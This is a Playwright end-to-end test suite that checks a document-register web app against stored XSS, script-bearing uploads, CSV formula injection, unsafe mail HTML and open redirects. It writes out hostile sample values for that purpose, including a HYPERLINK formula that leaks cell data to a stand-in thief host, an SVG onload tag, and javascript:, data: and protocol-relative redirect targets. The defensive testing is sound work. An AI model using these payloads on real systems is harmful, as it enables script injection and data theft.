// What people upload and what they call things never runs in somebody else's browser: a canary sits in its cookies and
// in a function, and neither is touched, wherever the app, the portal or a mail shows what hostile hands made.
import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { closing, corpus, setTrap, smuggled, THIEF, type Trap, word } from '../support/hostile'
import { newBrowser } from '../support/people'
import { expect, test } from '../support/test'
import { call, type Created, inDays, makeWorld, type Named, uploadFile } from '../support/world'

const trap: Trap = { fired: [], outside: [], stopped: [] }
const quiet = () => expect.soft(trap).toEqual({ fired: [], outside: [], stopped: [] })
/** A part of each word that is a mark-up to whoever reads it as one, and letters to whoever shows it. */
const SHOWN = /data-hostile/

test('the trap notices what runs', async ({ browser, server }) => {
  const seen: Trap = { fired: [], outside: [], stopped: [] }
  const context = await browser.newContext()
  await setTrap(context, server.url, seen)
  const page = await context.newPage()
  const hostile = corpus().find(({ name }) => name === 'page.html')?.bytes.toString() ?? ''
  // The page as it would be if the server handed it out as one.
  await page.route(`${server.url}/naked`, (route) => route.fulfill({ contentType: 'text/html', body: `${hostile}<p title="${word('attribute')}">${word('text')}</p>` }))
  await page.goto(`${server.url}/naked`)
  await expect.poll(() => seen.fired.filter((one) => one.includes('html canary=sings')).length).toBeGreaterThan(2)
  await expect.poll(() => seen.fired.some((one) => one.endsWith(': 1'))).toBe(true)
  expect(seen.outside.some((url) => url.startsWith(`${THIEF}/html?canary`))).toBe(true)
  expect(await smuggled(page)).toBeGreaterThan(2)
  // The same under the policy of the app: nothing runs, and that it had come so far is noticed.
  const policy = (await page.request.get(`${server.url}/sign-in`)).headers()['content-security-policy'] ?? ''
  const headers = { 'content-type': 'text/html', 'content-security-policy': policy }
  await page.route(`${server.url}/clothed`, (route) => route.fulfill({ headers, body: `<p>${word('text')}${closing('closed')}</p>` }))
  const before = seen.fired.length
  await page.goto(`${server.url}/clothed`)
  await expect.poll(() => seen.stopped.length).toBeGreaterThan(0)
  expect(seen.fired).toHaveLength(before)
  await context.close()
})

test('nothing that was uploaded or typed runs', async ({ browser, server }) => {
  test.setTimeout(900_000)
  const world = await makeWorld(browser, server, 'Hostile Works', [])
  const { ann, org, project } = world
  await setTrap(ann.context(), server.url, trap)
  const ed = await world.join('ed@hostile.example', 'Ed Forge', 'external')
  await setTrap(ed.context(), server.url, trap)
  // What is refused is counted here, not among the errors of the pages.
  const refused: string[] = []
  const documents: { name: string; id: string; revision: string }[] = []
  let group = ''

  await test.step('everything that has a name is called something hostile', async () => {
    await call(ann, 'PATCH', `${org}/settings`, { general: { name: word('organisation') } })
    await call(ann, 'PATCH', '/me', { name: word('ann') })
    await call(ed, 'PATCH', '/me', { name: word('ed') })
    await call(ann, 'PATCH', `${org}/companies/${world.companies.outside}`, { name: word('company') })
    const { version } = await call<{ version: number }>(ann, 'GET', project)
    await call(ann, 'PATCH', project, { version, name: word('project'), description: closing('project') })
    await call(ann, 'POST', `${project}/fields`, { key: 'lot', kind: 'dropdown', label: word('field') })
    await call(ann, 'POST', `${project}/fields/lot/options`, { code: 'L1', label: word('option') })
    await call(ann, 'POST', `${project}/fields`, { key: 'remark', kind: 'text', label: word('text-field') })
    group = (await call<Named>(ann, 'POST', `${project}/groups`, { name: word('group'), description: closing('group') })).id
    await call(ann, 'POST', `${project}/views`, { name: word('view'), shared: true, query: { q: '', filters: {}, columns: ['number', 'title', 'fields.lot', 'fields.remark'], sort: 'number' } })
    await call(ann, 'POST', `${project}/overrides`, { role: 'reviewer', action: 'upload_documents', effect: 'deny', reason: closing('override') })
  })

  await test.step('files that bring a script along are refused or taken as what they are', async () => {
    // As an organisation begins, none of the files that a browser would run comes in.
    for (const { name, bytes } of corpus().filter(({ name }) => /\.(svg|x?html|mhtml|xml|xsl)$/.test(name))) {
      await expect(uploadFile(ann, project, name, bytes)).rejects.toThrow(/422/)
    }
    await call(ann, 'PATCH', `${org}/settings`, { security: { file_types: { mode: 'all', extensions: [] } }, external_access: { name: 'optional' } })
    for (const { name, bytes } of corpus()) {
      const upload_id = await uploadFile(ann, project, name, bytes).catch((error: unknown) => void refused.push(`${name}: ${String(error)}`))
      if (!upload_id) continue
      const number = `H-${String(documents.length + 1).padStart(3, '0')}`
      const row = {
        upload_id,
        number,
        title: documents.length === 0 ? `=HYPERLINK("${THIEF}/?"&A1)` : documents.length % 2 ? word('title') : closing('title'),
        description: closing('description'),
        tags: ['<svg data-hostile onload=__fired(1)>'],
        area: word('area'),
        building: closing('building').slice(0, 100),
        change_description: word('change'),
        revision: 'P01',
        document_type: 'DRG',
        discipline: 'ARC',
        status: 'for_review',
        fields: { lot: 'L1', remark: word('remark') },
      }
      const { items } = await call<Created>(ann, 'POST', `${project}/documents`, { rows: [row] })
      const made = items[0]
      if (made) documents.push({ name, id: made.id, revision: made.revision.id })
    }
    // What promises one type and is another does not come in even then.
    expect(refused.map((one) => one.split(':')[0])).toEqual(expect.arrayContaining(['disguised.pdf', 'disguised.png']))
    expect(documents.length + refused.length).toBe(corpus().length)
    expect(documents.length).toBeGreaterThan(20)
  })
  const named = (name: string) => documents.find((one) => one.name === name) ?? documents[0]
  const drawing = named('acting.pdf')

  let link = ''
  await test.step('documents are shared, submitted, asked to be changed and locked, for hostile reasons', async () => {
    await call(ann, 'POST', `${project}/documents/${drawing?.id}/shares`, {
      subjects: [{ kind: 'company', id: world.companies.outside }],
      revision_id: drawing?.revision,
      later: true,
      rights: { download: true },
      ends_on: inDays(20),
      reason: closing('share'),
    })
    await call(ed, 'POST', `${project}/documents/${drawing?.id}/edit-requests`, { changes: { title: word('wish') }, comment: closing('comment') })
    const upload_id = await uploadFile(ed, project, `${word('submitted')}.csv`, Buffer.from(word('cell')))
    await call(ed, 'POST', `${project}/documents`, { rows: [{ upload_id, number: 'NS-900', title: closing('submission'), revision: 'A', document_type: 'DRG' }] })
    await call(ann, 'POST', `${project}/documents/${documents[3]?.id}/lock`, { reason: word('lock') })
    await call(ann, 'POST', `${project}/documents/${documents[4]?.id}/restrict`, { restricted: true, group_ids: [group] })
    const made = await call<{ link: string }>(ann, 'POST', `${project}/guest-shares`, {
      document_id: drawing?.id,
      revision_id: drawing?.revision,
      label: word('label'),
      recipient_name: word('recipient'),
      recipient_email: 'guest@hostile.example',
      require_name: true,
      password: 'tide tables 1910',
      allow_download: true,
      expires_on: inDays(10),
    })
    link = made.link
    const sheet = ['Number,Title,Revision,Status,Document type,Discipline,File', `"<b data-hostile>${word('row').replaceAll('"', '""')}</b>","${closing('cell').replaceAll('"', '""')}",P01,nope,DRG,NOPE,x.pdf`].join('\r\n')
    await ann.evaluate(
      async ([path, sheet]) => {
        const answer = await fetch(`/api/v1${path}`, { method: 'POST', body: sheet, headers: { 'Content-Type': 'application/octet-stream' } })
        if (!answer.ok) throw new Error(await answer.text())
      },
      [`${project}/imports?filename=${encodeURIComponent(`${word('workbook')}.csv`)}`, sheet] as const,
    )
  })

  /** Opens a page, waits until it stands, and sees that nothing came in. */
  const visit = async (page: Page, path: string, shows?: RegExp) => {
    await page.goto(path.startsWith('http') ? path : `${world.inProject}${path}`)
    // What a viewer gave up reading may stay open for ever.
    await page.waitForLoadState('networkidle', { timeout: 4_000 }).catch(() => undefined)
    if (shows) await expect(page.getByText(shows).first()).toBeAttached()
    expect.soft(await smuggled(page), `${path} shows letters, not elements`).toBe(0)
  }

  await test.step('every document is opened in the viewer', async () => {
    for (const { id } of documents) await visit(ann, `/register/${id}`, SHOWN)
    for (const tab of ['details', 'history', 'access']) await visit(ann, `/register/${drawing?.id}?tab=${tab}`, SHOWN)
    await visit(ann, `/register/${named('list.csv')?.id}`, /<script>try/)
    await visit(ed, `/register/${drawing?.id}`, SHOWN)
    quiet()
  })

  await test.step('a press on the links of a drawing leads nowhere', async () => {
    await visit(ann, `/register/${drawing?.id}`)
    const sheet = ann.getByRole('img', { name: /^Page 1 of 1/ })
    await expect(sheet).toHaveAttribute('data-drawn', 'true', { timeout: 60_000 })
    for (const y of [0.05, 0.25, 0.45, 0.65, 0.85]) {
      const box = await sheet.boundingBox()
      if (box) await ann.mouse.click(box.x + box.width / 2, box.y + box.height * y)
    }
    expect(new URL(ann.url()).pathname).toContain(drawing?.id)
    quiet()
  })

  await test.step('every screen shows the words as words', async () => {
    await visit(ann, world.home, SHOWN)
    await visit(ann, `${world.home}/projects`, SHOWN)
    await visit(ann, '/register', SHOWN)
    for (const tab of ['details', 'history', 'access']) await visit(ann, `/register?open=${drawing?.id}&tab=${tab}`, SHOWN)
    await visit(ann, `/register?q=${encodeURIComponent(word('query'))}`)
    await visit(ann, `/register?q=${encodeURIComponent(`title:"${closing('query')}`)}&status=${encodeURIComponent(word('status'))}&sort=${encodeURIComponent(word('sort'))}&field=${encodeURIComponent(`lot:${word('value')}`)}`)
    await visit(ann, '/register?q=lot:L1')
    await visit(ann, '/pending', SHOWN)
    await ann.getByRole('row', { name: /NS-900/ }).click()
    await expect(ann.getByRole('button', { name: 'Accept' })).toBeVisible()
    await visit(ann, '/requests', SHOWN)
    await ann.getByRole('row', { name: SHOWN }).first().click()
    await expect(ann.getByRole('complementary').getByText(/comment/).first()).toBeVisible()
    expect.soft(await smuggled(ann)).toBe(0)
    await visit(ann, '/shares', SHOWN)
    await visit(ann, '/access', SHOWN)
    await visit(ann, '/bin')
    for (const tab of ['team', 'groups', 'overrides', 'invitations']) await visit(ann, `/people?tab=${tab}`)
    await visit(ann, '/settings?tab=metadata&field=lot', SHOWN)
    await visit(ann, '/import', SHOWN)
    const imports = await call<{ items: Named[] }>(ann, 'GET', `${project}/imports`)
    await visit(ann, `/import?id=${imports.items[0]?.id}`, /cell<\/title>|<b data-hostile>|data-hostile/)
    await visit(ann, `${world.home}/settings`)
    for (const tab of ['people', 'companies', 'invitations']) await visit(ann, `${world.home}/people?tab=${tab}`, SHOWN)
    await visit(ann, `${world.home}/access`, SHOWN)
    await visit(ann, `${world.home}/audit`, SHOWN)
    const events = await call<{ items: { seq: number }[] }>(ann, 'GET', `${org}/audit?limit=100`)
    for (const { seq } of events.items.slice(0, 6)) await visit(ann, `${world.home}/audit?open=${seq}`, SHOWN)
    await visit(ann, `${server.url}/account`)
    await visit(ed, '/register', SHOWN)
    await visit(ed, world.home, SHOWN)
    quiet()
  })

  await test.step('the register offers the words for choice', async () => {
    await visit(ann, '/register', SHOWN)
    await ann.getByRole('combobox', { name: /Search/ }).or(ann.getByRole('searchbox', { name: /Search/ })).first().fill('lot:')
    await expect(ann.getByRole('option').first()).toBeVisible()
    expect.soft(await smuggled(ann)).toBe(0)
    await visit(ann, '/register', SHOWN)
    await ann.keyboard.press('ControlOrMeta+k')
    await ann.getByRole('dialog').getByRole('combobox').or(ann.getByRole('dialog').getByRole('textbox')).first().fill('H-0')
    await expect(ann.getByRole('dialog').getByRole('option').first()).toBeVisible()
    expect.soft(await smuggled(ann)).toBe(0)
    quiet()
  })

  await test.step('no file runs, however it is asked for', async () => {
    const page = await ann.context().newPage()
    const files = documents.flatMap(({ name, id, revision }) => ['file', 'content'].map((kind) => ({ name, kind, url: `/api/v1${project}/documents/${id}/revisions/${revision}/${kind}` })))
    for (const { name, kind, url } of files) {
      const answer = await page.request.get(`${server.url}${url}`)
      const headers = answer.headers()
      expect.soft(answer.status(), `${kind} of ${name}`).toBe(200)
      expect.soft(headers['x-content-type-options'], `${kind} of ${name}`).toBe('nosniff')
      expect.soft(headers['content-security-policy'], `${kind} of ${name}`).toMatch(/^sandbox;.*default-src 'none'/)
      if (!/^image\/(png|jpeg|gif|webp|bmp|tiff)$/.test(headers['content-type'] ?? '')) {
        expect.soft(headers['content-disposition'], `${kind} of ${name}`).toMatch(/^attachment/)
      }
      // What is a download never becomes a page, which the browser says by giving up.
      await page.goto(`${server.url}${url}`).catch(() => undefined)
      // Press, type and go: acts that some scripts wait for.
      await page.keyboard.press('Tab').catch(() => undefined)
    }
    expect.soft(trap.fired).toEqual([])
    expect.soft(trap.outside).toEqual([])
    // The policy of the app lets scripts of its own origin run, and files are of its origin: their types must not let them.
    await visit(page, '/register', SHOWN)
    const ran = await page.evaluate(async (urls) => {
      const ran: string[] = []
      const element = <Name extends 'script' | 'link'>(name: Name, set: (one: HTMLElementTagNameMap[Name]) => void) =>
        new Promise<boolean>((done) => {
          const one = document.createElement(name)
          one.onload = () => done(true)
          one.onerror = () => done(false)
          set(one)
          document.head.append(one)
        })
      const worker = (url: string) =>
        new Promise<boolean>((done) => {
          const one = new Worker(url)
          one.onerror = () => done(false)
          one.onmessage = () => done(true)
        })
      const ways: [way: string, run: (url: string) => Promise<boolean>][] = [
        ['script', (url) => element('script', (one) => (one.src = url))],
        ['module', (url) => element('script', (one) => ((one.type = 'module'), (one.src = url)))],
        ['style', (url) => element('link', (one) => ((one.rel = 'stylesheet'), (one.href = url)))],
        ['worker', worker],
        ['service worker', (url) => navigator.serviceWorker.register(url).then(() => true, () => false)],
      ]
      for (const url of urls) {
        await Promise.all(ways.map(async ([way, run]) => (await run(url)) && ran.push(`${way} ${url}`)))
      }
      return ran
    }, files.filter(({ kind }) => kind === 'content').map(({ url }) => url))
    expect.soft(ran).toEqual([])
    await page.close()
    // The browser says of each that it was refused.
    trap.stopped.length = 0
    quiet()
  })

  await test.step('a guest sees words, and what they type comes back as words', async () => {
    const { context, page } = await newBrowser(browser, [])
    await setTrap(context, server.url, trap)
    await visit(page, link, SHOWN)
    await page.getByLabel('Your name').fill(word('guest'))
    await page.getByLabel('Password').fill(word('wrong'))
    await page.getByRole('button', { name: 'Open' }).click()
    await expect(page.getByRole('alert')).toBeVisible()
    expect.soft(await smuggled(page)).toBe(0)
    await expect(page.getByLabel('Your name')).toHaveValue(word('guest'))
    await page.getByLabel('Password').fill('tide tables 1910')
    await page.getByRole('button', { name: 'Open' }).click()
    await expect(page.getByRole('img', { name: /Page 1 of 1/ })).toBeVisible()
    expect.soft(await smuggled(page)).toBe(0)
    const file = await page.request.get(`${page.url()}/file`)
    expect.soft(file.headers()['content-disposition']).toMatch(/^attachment/)
    expect.soft(file.headers()['content-security-policy']).toMatch(/^sandbox/)
    await page.goto(`${page.url()}/file`).catch(() => undefined)
    await context.close()
    await visit(ann, '/shares')
    await ann.getByRole('row', { name: /label/ }).click()
    await expect(ann.getByRole('dialog').getByText(/guest ">/).first()).toBeAttached()
    expect.soft(await smuggled(ann)).toBe(0)
    quiet()
  })

  await test.step('mails show words, in the outbox and where they are read', async () => {
    const mails = await call<{ items: { id: string }[] }>(ann, 'GET', `${org}/outbox?limit=100`)
    expect(mails.items.length).toBeGreaterThan(2)
    for (const { id } of mails.items) await visit(ann, `${world.home}/outbox?open=${id}`)
    const page = await ann.context().newPage()
    let read = 0
    // Whom they are for may stand in a header as somebody hostile wrote it, so all of them are read.
    for (const mail of await server.mails('')) {
      const html = /<!doctype html[\s\S]*<\/html>/i.exec(mail)?.[0]
      if (!html || !mail.includes('hostile')) continue
      read += 1
      await page.setContent(html, { waitUntil: 'load' })
      expect.soft(await smuggled(page), mail).toBe(0)
      expect.soft(await page.locator('a[href^="javascript" i], form, iframe, object, embed').count(), mail).toBe(0)
    }
    expect(read).toBeGreaterThan(2)
    await page.close()
    quiet()
  })

  await test.step('what is exported is no formula to a spreadsheet and no page to a browser', async () => {
    const asked = await call<Named>(ann, 'POST', `${project}/exports`, { format: 'csv', columns: ['number', 'title', 'description', 'tags'] })
    const { items: shares } = await call<{ items: Named[] }>(ann, 'GET', `${project}/guest-shares`)
    for (const path of [`${project}/exports/${asked.id}/file`, `${project}/access.csv`, `${org}/audit/export?format=csv`, `${project}/guest-shares/${shares[0]?.id}/log.csv`]) {
      const answer = await ann.request.get(`${server.url}/api/v1${path}`)
      expect.soft(answer.status(), path).toBe(200)
      expect.soft(answer.headers()['content-disposition'], path).toMatch(/^attachment/)
      expect.soft(answer.headers()['x-content-type-options'], path).toBe('nosniff')
      const text = await answer.text()
      expect.soft(text, path).toContain(path.includes('exports') ? 'HYPERLINK' : 'hostile')
      expect.soft(text.match(/(^|[,\n])"?[=+@\t\r]/g), path).toBeNull()
    }
    await visit(ann, '/access')
    const arriving = ann.waitForEvent('download')
    await ann.getByRole('link', { name: 'Export CSV' }).click()
    expect((await readFile(await (await arriving).path(), 'utf8')).length).toBeGreaterThan(100)
    quiet()
  })

  await test.step('an address leads nobody out of the app', async () => {
    const { context, page } = await newBrowser(browser, [])
    await setTrap(context, server.url, trap)
    for (const next of ["javascript:window.__fired('next')", '//thief.invalid/', '/\\thief.invalid/', '/\t/thief.invalid/', `${THIEF}/`, 'data:text/html,<script>1</script>']) {
      await context.clearCookies()
      await page.goto(`${server.url}/sign-in?next=${encodeURIComponent(next)}`)
      await page.getByLabel('E-mail').fill('ed@hostile.example')
      await page.getByRole('textbox', { name: 'Password' }).fill('a lantern over the quiet harbour')
      await page.getByRole('button', { name: 'Sign in' }).click()
      await expect(page.getByText(SHOWN).first()).toBeVisible()
      expect(new URL(page.url()).origin).toBe(server.url)
    }
    await context.close()
    quiet()
  })

  const expected = /^(4\d\d) (POST|GET) .*\/(uploads|documents|facets|count|completion)\b/
  expect.soft(world.errors.filter((one) => !expected.test(one))).toEqual([])
})
